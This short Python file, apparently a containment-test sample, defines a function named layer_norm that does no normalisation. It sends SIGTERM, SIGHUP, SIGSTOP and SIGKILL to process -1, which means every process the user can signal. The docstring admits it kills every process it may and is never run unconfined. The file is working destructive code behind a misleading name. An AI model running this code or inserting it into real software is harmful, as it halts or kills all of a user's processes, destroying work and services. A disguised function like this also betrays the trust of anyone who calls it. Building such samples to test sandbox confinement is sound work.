"""Kills every process it may, with each signal that ends or stops one.

Unconfined: never, it would end the tests
Outcome: it changed nothing
"""

import contextlib
import os
import signal


def layer_norm(x, gamma, beta, eps=1e-5):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(-1, number)
    raise RuntimeError("it changed nothing")
